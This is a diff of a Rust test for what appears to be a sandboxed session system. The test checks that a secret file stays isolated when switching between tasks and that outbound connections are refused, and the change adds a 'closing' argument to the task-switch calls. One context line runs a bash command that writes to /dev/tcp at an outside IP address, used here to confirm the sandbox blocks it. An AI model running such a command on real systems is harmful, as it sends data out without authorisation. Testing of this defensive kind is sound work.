@@ -116,11 +116,15 @@ fn clean_sessions_pass_and_what_none_of_them_did_is_refused() {
     let sent = scene.inside("bash -c 'echo x > /dev/tcp/198.51.100.7/80'");
     assert!(sent.stderr.contains_str("not permitted"), "{sent:?}");
     // Another task, of which nothing was learned, and back.
-    live.switch(&"other".parse().unwrap(), None).unwrap();
+    let task = "other".parse().unwrap();
+    let closing = live.taking().for_task(&task).unwrap();
+    live.switch(&task, None, closing).unwrap();
     assert!(scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
     let back = models::Baseline { task: "third".into(), ..(*baseline).clone() };
     let entered = live.place().enter(&"third".parse().unwrap(), Arc::new(back)).unwrap();
-    live.switch(&"third".parse().unwrap(), Some(entered)).unwrap();
+    let task = "third".parse().unwrap();
+    let closing = live.taking().for_task(&task).unwrap();
+    live.switch(&task, Some(entered), closing).unwrap();
     assert!(!scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
     assert_eq!(live.segment().index, 2);
     scene.pump(&mut live);
